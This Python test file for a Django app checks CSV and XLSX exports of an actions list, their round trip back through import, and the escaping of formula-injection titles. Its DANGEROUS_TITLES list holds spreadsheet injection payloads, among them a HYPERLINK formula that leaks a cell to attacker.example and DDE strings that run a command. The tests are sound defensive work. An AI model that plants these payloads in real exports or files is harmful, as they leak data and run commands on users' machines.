"""The CSV/XLSX export of lists (core/exports.py) on the actions list, and the round trip."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse

from lazos.actions.models import Action
from lazos.core.models import AuditEvent
from lazos.partners.models import Partner
from lazos.spreadsheets.importers import apply, plan
from lazos.spreadsheets.readers import read_bytes
from lazos.spreadsheets.tests.helpers import read_xlsx_rows

pytestmark = pytest.mark.django_db

LABELS = ["Id", "External id", "Title", "Modality", "Status", "Start", "End", "Partners"]


@pytest.fixture
def actions(world):
    from lazos.actions.services import create_action

    rosario = Partner.objects.create(
        government=world.government, name="Rosario", kind="local_government"
    )
    created = []
    for i, status in enumerate(["completed", "planned", "completed", "ongoing", "completed"]):
        created.append(
            create_action(
                world.government,
                acting_user=None,
                title=f"Action {i}",
                modality="mission",
                status=status,
                start_date=datetime.date(2024, 1, 1 + i),
                end_date=datetime.date(2024, 2, 1 + i),
                lead_department=world.department,
                partners=[rosario],
                external_id=f"A-{i}",
                location="Rosario",
            )
        )
    foreign = Partner.objects.create(
        government=world.other_government, name="Foreign", kind="other"
    )
    Action.objects.create(
        government=world.other_government, title="Not ours", modality="event", status="completed"
    )
    assert foreign
    return created


def test_xlsx_export_of_a_filtered_list(world, actions):
    url = reverse("actions:action-list")
    response = world.client_for("viewer").get(url, {"status": "completed", "export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment;" in response["Content-Disposition"]
    rows = read_xlsx_rows(response.content)
    assert rows[0][: len(LABELS)] == LABELS
    assert sorted(row[2] for row in rows[1:]) == ["Action 0", "Action 2", "Action 4"]
    first = next(row for row in rows[1:] if row[2] == "Action 0")
    assert first[1] == "A-0"
    assert first[3] == "mission abroad"
    assert first[4] == "completed"
    assert first[5] == datetime.datetime(2024, 1, 1)  # a real date cell
    assert first[7] == "Rosario"


def test_csv_export_of_a_filtered_list(world, actions):
    url = reverse("actions:action-list")
    response = world.client_for("viewer").get(url, {"status": "completed", "export": "csv"})
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][: len(LABELS)] == LABELS
    assert sorted(row[2] for row in rows[1:]) == ["Action 0", "Action 2", "Action 4"]
    assert next(row for row in rows[1:] if row[2] == "Action 2")[5] == "2024-01-03"
    assert world.client_for("viewer").get(url, {"export": "pdf"}).status_code == 400


def test_an_exported_list_imports_back_unchanged(world, actions):
    """Export → import: the headers are understood and nothing changes."""
    for fmt in ("xlsx", "csv"):
        response = world.client_for("viewer").get(reverse("actions:action-list"), {"export": fmt})
        preview = plan(
            world.government, read_bytes(response.content, f"actions.{fmt}"), kind="actions"
        )
        assert preview.errors == []
        assert preview.counts["unchanged"] == 5, fmt
        assert "Id" in preview.ignored_headers
    events = AuditEvent.objects.count()
    apply(preview, acting_user=None)
    assert AuditEvent.objects.count() == events


DANGEROUS_TITLES = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-",
    "'=escaped by hand",
    "#N/A",
]


def test_dangerous_titles_are_escaped_and_import_back_unchanged(world):
    """Formula injection: the export escapes the text, never writes a formula, and the
    escape is undone on import, so the round trip changes nothing."""
    from openpyxl import load_workbook

    from lazos.actions.services import create_action

    for index, title in enumerate(DANGEROUS_TITLES):
        create_action(
            world.government,
            acting_user=None,
            title=title,
            modality="mission",
            status="planned",
            external_id=f"A-{index}",
        )
    url = reverse("actions:action-list")
    client = world.client_for("viewer")
    escaped = {"'" + t if t[0] in "=+-@" or t.startswith("'=") else t for t in DANGEROUS_TITLES}

    text = client.get(url, {"export": "csv"}).content.decode("utf-8").lstrip("\ufeff")
    assert {row[2] for row in list(csv.reader(io.StringIO(text)))[1:]} == escaped

    data = client.get(url, {"export": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert {cell.value for cell in cells} == escaped
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(isinstance(row[0].value, int) for row in sheet.iter_rows(min_row=2))

    for fmt, content in (("csv", text.encode()), ("xlsx", data)):
        preview = plan(world.government, read_bytes(content, f"actions.{fmt}"), kind="actions")
        assert preview.errors == [], fmt
        assert preview.counts["unchanged"] == len(DANGEROUS_TITLES), fmt
